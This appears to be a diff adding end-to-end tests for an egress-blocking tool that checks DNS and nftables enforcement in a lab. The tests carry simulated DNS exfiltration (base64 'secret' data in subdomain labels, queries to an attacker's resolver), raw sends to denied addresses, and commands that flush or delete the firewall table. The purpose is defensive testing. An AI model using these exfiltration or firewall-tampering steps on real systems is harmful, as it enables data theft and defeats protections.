@@ -1,0 +1,295 @@
+using System.Text.Json;
+using HardenRunner.EndToEnd.Tests.Support;
+using HardenRunner.Lab;
+using TestLab = HardenRunner.Lab.Lab;
+
+namespace HardenRunner.EndToEnd.Tests;
+
+/// <summary>
+/// Enforcement core I in the lab: the DNS server and the nftables firewall, in block and audit mode, with real
+/// clients (dig, python3, bash) in the runner namespace. The proof is on the internet side: the lab's logs.
+/// </summary>
+public sealed class EnforcementCoreTests
+{
+    internal static readonly TimeSpan ClientTimeout = TimeSpan.FromSeconds(15);
+    internal static readonly TimeSpan Quiet = TimeSpan.FromSeconds(2);
+
+    // exfil.test = 198.51.100.20 / 2001:db8:100::20 is denied; allowed.test is allowed on 443 and 22;
+    // github.com's addresses (198.51.100.31, 2001:db8:100::31) are allowed by CIDR on port 9000 only.
+    internal const string Policy = """
+        egress-policy: block
+        allowed-endpoints:
+          - allowed.test:443
+          - allowed.test:22
+        allowed-cidrs:
+          - 198.51.100.31/32:9000
+          - "[2001:db8:100::31/128]:9000"
+        """;
+
+    internal static string Unique(string prefix) => prefix + Guid.NewGuid().ToString("N")[..10];
+
+    /// <summary>A python3 one-shot: TCP connect + send, or UDP send, with a short timeout. Exit 0 if the send went out on an established flow.</summary>
+    internal static Task<LabProcessResult> SendAsync(TestLab lab, string proto, string address, int port, string payload)
+    {
+        const string script = """
+            import socket, sys
+            proto, addr, port, payload = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4].encode()
+            fam = socket.AF_INET6 if ':' in addr else socket.AF_INET
+            if proto == 'tcp':
+                s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(3)
+                s.connect((addr, port)); s.sendall(payload); s.close()
+            else:
+                s = socket.socket(fam, socket.SOCK_DGRAM); s.settimeout(3)
+                s.sendto(payload, (addr, port))
+                try:
+                    s.recvfrom(2048)
+                except socket.timeout:
+                    sys.exit(3)
+            """;
+        return lab.RunInRunnerAsync("python3", ["-c", script, proto, address, port.ToString(System.Globalization.CultureInfo.InvariantCulture), payload], ClientTimeout);
+    }
+
+    internal static Task<LabProcessResult> DigAsync(TestLab lab, params string[] args) =>
+        lab.RunInRunnerAsync("dig", ["+time=2", "+tries=1", .. args], ClientTimeout);
+
+    internal static bool IsEvent(JsonElement e, string kind, string? host, string? address, int port, string decision, string action) =>
+        e.GetProperty("type").GetString() == "network"
+        && e.GetProperty("kind").GetString() == kind
+        && (host is null || string.Equals(e.GetProperty("host").GetString(), host, StringComparison.OrdinalIgnoreCase))
+        && (address is null || e.GetProperty("address").GetString() == address)
+        && (port < 0 || e.GetProperty("port").GetInt32() == port)
+        && e.GetProperty("decision").GetString() == decision
+        && e.GetProperty("action").GetString() == action;
+
+    [SkippableFact]
+    public async Task Block_DnsExfiltration_NeverReachesAnyUpstream_UdpTcpAndDirectResolvers()
+    {
+        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        await using var lab = await TestLab.StartAsync(new LabOptions());
+        await using var appliance = await ApplianceProcess.StartAsync(lab, Policy);
+
+        // data in labels: base64 of a "secret", under a denied domain
+        var viaSystem = "c2VjcmV0LXN5cw." + Unique("a") + ".exfil.test";
+        var viaTcp = "c2VjcmV0LXRjcA." + Unique("b") + ".exfil.test";
+        var direct = "c2VjcmV0LWRpcg." + Unique("c") + ".exfil.test";
+        var rogue = "c2VjcmV0LXJvZw." + Unique("d") + ".exfil.test";
+        var v6 = "c2VjcmV0LXY2." + Unique("e") + ".exfil.test";
+
+        var r1 = await DigAsync(lab, viaSystem, "TXT");
+        Assert.Contains("status: NXDOMAIN", r1.StandardOutput, StringComparison.Ordinal);
+        var r2 = await DigAsync(lab, "+tcp", viaTcp, "A");
+        Assert.Contains("status: NXDOMAIN", r2.StandardOutput, StringComparison.Ordinal);
+        var r3 = await DigAsync(lab, "@" + lab.DnsV4, direct, "A");          // straight at the real upstream
+        Assert.Contains("status: NXDOMAIN", r3.StandardOutput, StringComparison.Ordinal);
+        var r4 = await DigAsync(lab, "@" + lab.Attacker.V4, rogue, "A");    // an attacker's own resolver
+        Assert.Contains("status: NXDOMAIN", r4.StandardOutput, StringComparison.Ordinal);
+        var r5 = await DigAsync(lab, "@" + lab.DnsV6, "+tcp", v6, "AAAA");
+        Assert.Contains("status: NXDOMAIN", r5.StandardOutput, StringComparison.Ordinal);
+
+        Assert.True(await lab.DnsLog.NoneWithinAsync(q => q.Name.Contains("c2VjcmV0", StringComparison.Ordinal), Quiet), "a denied name reached a lab resolver");
+        await appliance.WaitForEventAsync(e => IsEvent(e, "dns", viaSystem, null, -1, "deny", "blocked"), Quiet);
+        await appliance.WaitForEventAsync(e => IsEvent(e, "dns", rogue, null, -1, "deny", "blocked"), Quiet);
+
+        // an allowed name still resolves, through the appliance, to the lab's address
+        var ok = await DigAsync(lab, "+short", "allowed.test", "A");
+        Assert.Equal("198.51.100.10", ok.StandardOutput.Trim());
+        await lab.DnsLog.WaitForAsync(q => q.Name == "allowed.test" && q.Server == "resolver", Quiet);
+    }
+
+    [SkippableFact]
+    public async Task Block_RawTcpUdpAndIpv6ToDeniedAddresses_ReceiveNothing_AndAreRecorded()
+    {
+        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        await using var lab = await TestLab.StartAsync(new LabOptions());
+        await using var appliance = await ApplianceProcess.StartAsync(lab, Policy);
+
+        var tcp4 = Unique("tcp4-");
+        var udp4 = Unique("udp4-");
+        var tcp6 = Unique("tcp6-");
+        var udp6 = Unique("udp6-");
+        var quic = Unique("quic-");
+        Assert.False((await SendAsync(lab, "tcp", "198.51.100.20", 9000, tcp4)).Succeeded);
+        await SendAsync(lab, "udp", "198.51.100.20", 9001, udp4);
+        Assert.False((await SendAsync(lab, "tcp", "2001:db8:100::20", 9000, tcp6)).Succeeded);
+        await SendAsync(lab, "udp", "2001:db8:100::20", 9001, udp6);
+        await SendAsync(lab, "udp", "198.51.100.10", 443, quic);  // QUIC to an allowed host: UDP 443 stays closed
+
+        Assert.True(await lab.TcpLog.NoneWithinAsync(r => r.Preview.Contains(tcp4, StringComparison.Ordinal) || r.Preview.Contains(tcp6, StringComparison.Ordinal), Quiet));
+        Assert.True(await lab.UdpLog.NoneWithinAsync(r => r.Preview.Contains(udp4, StringComparison.Ordinal) || r.Preview.Contains(udp6, StringComparison.Ordinal) || r.Preview.Contains(quic, StringComparison.Ordinal), Quiet));
+
+        await appliance.WaitForEventAsync(e => IsEvent(e, "tcp", null, "198.51.100.20", 9000, "deny", "blocked"), Quiet);
+        await appliance.WaitForEventAsync(e => IsEvent(e, "udp", null, "198.51.100.20", 9001, "deny", "blocked"), Quiet);
+        await appliance.WaitForEventAsync(e => IsEvent(e, "tcp", null, "2001:db8:100::20", 9000, "deny", "blocked"), Quiet);
+        await appliance.WaitForEventAsync(e => IsEvent(e, "udp", null, "198.51.100.10", 443, "deny", "blocked"), Quiet);
+    }
+
+    [SkippableFact]
+    public async Task Block_AllowedNameOnPort22_ConnectsByResolvedAddresses_OnlyOnGrantedPorts()
+    {
+        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        await using var lab = await TestLab.StartAsync(new LabOptions());
+        await using var appliance = await ApplianceProcess.StartAsync(lab, Policy);
+
+        var before = Unique("before-");
+        Assert.False((await SendAsync(lab, "tcp", "198.51.100.10", 22, before)).Succeeded, "reachable before the name was resolved");
+
+        Assert.Equal("198.51.100.10", (await DigAsync(lab, "+short", "allowed.test", "A")).StandardOutput.Trim());
+        Assert.Equal("2001:db8:100::10", (await DigAsync(lab, "+short", "allowed.test", "AAAA")).StandardOutput.Trim());
+
+        var v4 = Unique("ssh4-");
+        var v6 = Unique("ssh6-");
+        var notGranted = Unique("p9000-");
+        var r4 = await SendAsync(lab, "tcp", "198.51.100.10", 22, v4);
+        Assert.True(r4.Succeeded, r4.ToString());
+        var r6 = await SendAsync(lab, "tcp", "2001:db8:100::10", 22, v6);
+        Assert.True(r6.Succeeded, r6.ToString());
+        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(v4, StringComparison.Ordinal), Quiet);
+        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(v6, StringComparison.Ordinal), Quiet);
+
+        Assert.False((await SendAsync(lab, "tcp", "198.51.100.10", 9000, notGranted)).Succeeded);
+        Assert.True(await lab.TcpLog.NoneWithinAsync(r => r.Preview.Contains(notGranted, StringComparison.Ordinal) || r.Preview.Contains(before, StringComparison.Ordinal), Quiet));
+    }
+
+    [SkippableFact]
+    public async Task Block_AllowedCidrs_PassOnTheirPortOnly_IPv4AndIPv6()
+    {
+        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        await using var lab = await TestLab.StartAsync(new LabOptions());
+        await using var appliance = await ApplianceProcess.StartAsync(lab, Policy);
+
+        var v4 = Unique("cidr4-");
+        var v6 = Unique("cidr6-");
+        var other = Unique("cidr22-");
+        Assert.True((await SendAsync(lab, "tcp", "198.51.100.31", 9000, v4)).Succeeded);
+        Assert.True((await SendAsync(lab, "tcp", "2001:db8:100::31", 9000, v6)).Succeeded);
+        Assert.False((await SendAsync(lab, "tcp", "198.51.100.31", 22, other)).Succeeded);
+        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(v4, StringComparison.Ordinal), Quiet);
+        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(v6, StringComparison.Ordinal), Quiet);
+        Assert.True(await lab.TcpLog.NoneWithinAsync(r => r.Preview.Contains(other, StringComparison.Ordinal), Quiet));
+    }
+
+    [SkippableFact]
+    public async Task Audit_SameAttempts_PassAndAreRecordedAsDenyPassed()
+    {
+        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        await using var lab = await TestLab.StartAsync(new LabOptions());
+        await using var appliance = await ApplianceProcess.StartAsync(lab, Policy.Replace("egress-policy: block", "egress-policy: audit", StringComparison.Ordinal));
+
+        var name = "c2VjcmV0." + Unique("a") + ".exfil.test";
+        var dig = await DigAsync(lab, "+short", name, "A");
+        Assert.Equal("198.51.100.20", dig.StandardOutput.Trim());
+        await lab.DnsLog.WaitForAsync(q => q.Name == name, Quiet);
+
+        var tcp = Unique("atcp-");
+        var udp = Unique("audp-");
+        var tcp6 = Unique("atcp6-");
+        Assert.True((await SendAsync(lab, "tcp", "198.51.100.20", 9000, tcp)).Succeeded);
+        Assert.True((await SendAsync(lab, "udp", "198.51.100.20", 9001, udp)).Succeeded);
+        Assert.True((await SendAsync(lab, "tcp", "2001:db8:100::20", 9000, tcp6)).Succeeded);
+        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(tcp, StringComparison.Ordinal), Quiet);
+        await lab.UdpLog.WaitForAsync(r => r.Preview.Contains(udp, StringComparison.Ordinal), Quiet);
+
+        await appliance.WaitForEventAsync(e => IsEvent(e, "dns", name, null, -1, "deny", "passed"), Quiet);
+        await appliance.WaitForEventAsync(e => IsEvent(e, "tcp", null, "198.51.100.20", 9000, "deny", "passed"), Quiet);
+        await appliance.WaitForEventAsync(e => IsEvent(e, "udp", null, "198.51.100.20", 9001, "deny", "passed"), Quiet);
+        await appliance.WaitForEventAsync(e => IsEvent(e, "tcp", null, "2001:db8:100::20", 9000, "deny", "passed"), Quiet);
+        Assert.DoesNotContain(appliance.Events(), e => e.GetProperty("type").GetString() == "network" && e.GetProperty("action").GetString() == "blocked");
+    }
+
+    [SkippableFact]
+    public async Task Block_KillMinus9_EgressStaysClosed()
+    {
+        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        await using var lab = await TestLab.StartAsync(new LabOptions());
+        await using var appliance = await ApplianceProcess.StartAsync(lab, Policy);
+        appliance.Process.Kill();
+        await appliance.Process.WaitAsync(TimeSpan.FromSeconds(10));
+
+        var name = "c2VjcmV0LWtpbGw." + Unique("k") + ".exfil.test";
+        await DigAsync(lab, name, "A");
+        await DigAsync(lab, "@" + lab.DnsV4, name, "TXT");
+        var tcp = Unique("k9tcp-");
+        var udp = Unique("k9udp-");
+        var v6 = Unique("k9tcp6-");
+        Assert.False((await SendAsync(lab, "tcp", "198.51.100.20", 9000, tcp)).Succeeded);
+        await SendAsync(lab, "udp", "198.51.100.20", 9001, udp);
+        Assert.False((await SendAsync(lab, "tcp", "2001:db8:100::20", 9000, v6)).Succeeded);
+
+        Assert.True(await lab.DnsLog.NoneWithinAsync(q => q.Name.Contains("c2VjcmV0LWtpbGw", StringComparison.Ordinal), Quiet));
+        Assert.True(await lab.TcpLog.NoneWithinAsync(r => r.Preview.Contains(tcp, StringComparison.Ordinal) || r.Preview.Contains(v6, StringComparison.Ordinal), Quiet));
+        Assert.True(await lab.UdpLog.NoneWithinAsync(r => r.Preview.Contains(udp, StringComparison.Ordinal), Quiet));
+    }
+
+    [SkippableFact]
+    public async Task Block_TableTampering_IsDetectedAndRepaired()
+    {
+        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        await using var lab = await TestLab.StartAsync(new LabOptions());
+        await using var appliance = await ApplianceProcess.StartAsync(lab, Policy);
+
+        // a job step (as root) empties the appliance's chains
+        var flush = await lab.RunInRunnerAsync("nft", ["flush", "table", "inet", "harden_runner"], ClientTimeout);
+        Assert.True(flush.Succeeded, flush.ToString());
+        await appliance.WaitForEventAsync(e => e.GetProperty("type").GetString() == "detection" && e.GetProperty("detection").GetString() == "firewall-tampered", TimeSpan.FromSeconds(20));
+
+        // repaired: the rules are back and exfiltration is blocked again
+        var tcp = Unique("after-flush-");
+        Assert.False((await SendAsync(lab, "tcp", "198.51.100.20", 9000, tcp)).Succeeded);
+        Assert.True(await lab.TcpLog.NoneWithinAsync(r => r.Preview.Contains(tcp, StringComparison.Ordinal), Quiet));
+
+        // and deleting the whole table is caught too
+        var delete = await lab.RunInRunnerAsync("nft", ["delete", "table", "inet", "harden_runner"], ClientTimeout);
+        Assert.True(delete.Succeeded, delete.ToString());
+        var deadline = DateTime.UtcNow + TimeSpan.FromSeconds(20);
+        while (true)
+        {
+            var list = await lab.RunInRunnerAsync("nft", ["list", "table", "inet", "harden_runner"], ClientTimeout);
+            if (list.Succeeded)
+            {
+                break;
+            }
+
+            Assert.True(DateTime.UtcNow < deadline, "the table was not re-applied");
+            await Task.Delay(250);
+        }
+
+        Assert.True(appliance.Events().Count(e => e.GetProperty("type").GetString() == "detection") >= 2);
+    }
+
+    [SkippableFact]
+    public async Task Stop_RemovesTheTable_RestoresResolvConf_WritesSummary()
+    {
+        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        await using var lab = await TestLab.StartAsync(new LabOptions());
+        var before = await lab.RunInRunnerAsync("cat", ["/etc/resolv.conf"], ClientTimeout);
+        await using var appliance = await ApplianceProcess.StartAsync(lab, Policy);
+
+        var during = await lab.RunInRunnerAsync("cat", ["/etc/resolv.conf"], ClientTimeout);
+        Assert.Contains("nameserver 127.0.0.1", during.StandardOutput, StringComparison.Ordinal);
+        await DigAsync(lab, "exfil.test", "A");
+
+        var stopped = await appliance.StopAsync();
+        Assert.Equal(0, stopped.ExitCode);
+        var tables = await lab.RunInRunnerAsync("nft", ["list", "tables"], ClientTimeout);
+        Assert.DoesNotContain("harden_runner", tables.StandardOutput, StringComparison.Ordinal);
+        var after = await lab.RunInRunnerAsync("cat", ["/etc/resolv.conf"], ClientTimeout);
+        Assert.Equal(before.StandardOutput, after.StandardOutput);
+        var summary = await File.ReadAllTextAsync(Path.Combine(appliance.StateDir, "summary.md"));
+        Assert.Contains("**block** mode", summary, StringComparison.Ordinal);
+        Assert.Contains("`exfil.test`", summary, StringComparison.Ordinal);
+    }
+
+    [SkippableFact]
+    public async Task Run_InvalidPolicy_ExitsTwo_AndChangesNothing()
+    {
+        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        await using var lab = await TestLab.StartAsync(new LabOptions());
+        var policy = Path.Combine(lab.WorkDirectory, "bad.yml");
+        await File.WriteAllTextAsync(policy, "egress-policy: block\nallowed-endpoints: [\"*\"]\n");
+        var run = await lab.RunInRunnerAsync("dotnet", [HardenRunnerBinary.Path, "run", "--policy", policy, "--state-dir", Path.Combine(lab.WorkDirectory, "s")], TimeSpan.FromSeconds(30));
+        Assert.Equal(2, run.ExitCode);
+        Assert.Contains($"{policy}:2:21: error: a bare '*'", run.StandardError, StringComparison.Ordinal);
+        var tables = await lab.RunInRunnerAsync("nft", ["list", "tables"], ClientTimeout);
+        Assert.DoesNotContain("harden_runner", tables.StandardOutput, StringComparison.Ordinal);
+    }
+}
